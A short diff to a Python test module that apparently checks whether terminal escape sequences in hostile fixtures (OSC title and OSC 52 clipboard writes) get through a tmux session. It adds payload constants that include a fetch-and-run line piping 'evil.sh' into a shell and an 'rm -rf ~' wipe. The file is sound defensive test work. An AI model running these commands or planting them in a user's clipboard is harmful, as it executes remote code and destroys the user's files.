@@ -52,6 +52,11 @@ COMMITTED: dict[str, str] = {
     "special_values": "special-values.md",
 }
 
+#: What the escape sequences in the fixtures try to do to a terminal, for the tmux test to look
+#: for: OSC 0/2 set the window title to TITLE_PAYLOAD; OSC 52 sets the clipboard to one of these.
+TITLE_PAYLOAD = "pwned"
+CLIPBOARD_PAYLOADS = ("curl evil.sh | sh", "rm -rf ~")
+
 #: Where the committed python-tag fixture would leave its mark if its tag ever ran.
 COMMITTED_PWNED_MARKER = Path("/tmp/agentbrowser-hostile-pwned")
 
